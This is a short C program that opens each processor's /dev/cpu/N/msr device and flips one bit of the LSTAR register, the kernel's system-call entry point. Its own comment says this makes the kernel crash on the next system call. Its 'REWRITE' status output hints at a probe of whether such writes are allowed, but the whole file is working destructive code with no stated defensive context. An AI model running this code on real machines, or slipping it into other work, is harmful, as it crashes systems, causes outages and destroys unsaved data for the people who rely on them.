// Changes one bit of LSTAR, the kernel's entry for system calls, on each processor, and prints the result for each. If a write
// succeeds, the next system call on that processor crashes the kernel.
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    for (int processor = 0; processor < 8; processor++) {
        char path[32];
        snprintf(path, sizeof path, "/dev/cpu/%d/msr", processor);
        int file = open(path, O_RDWR);
        if (file < 0) {
            if (processor == 0) printf("REWRITE: %s: %s\n", path, strerror(errno));
            break;
        }
        uint64_t value = 0;
        if (pread(file, &value, sizeof value, 0xc0000082) != sizeof value) printf("REWRITE %d: no read\n", processor);
        value ^= UINT64_C(1) << 40;
        ssize_t written = pwrite(file, &value, sizeof value, 0xc0000082);
        printf("REWRITE %d: %s\n", processor, written < 0 ? strerror(errno) : "written");
        fflush(stdout);
    }
    return 0;
}
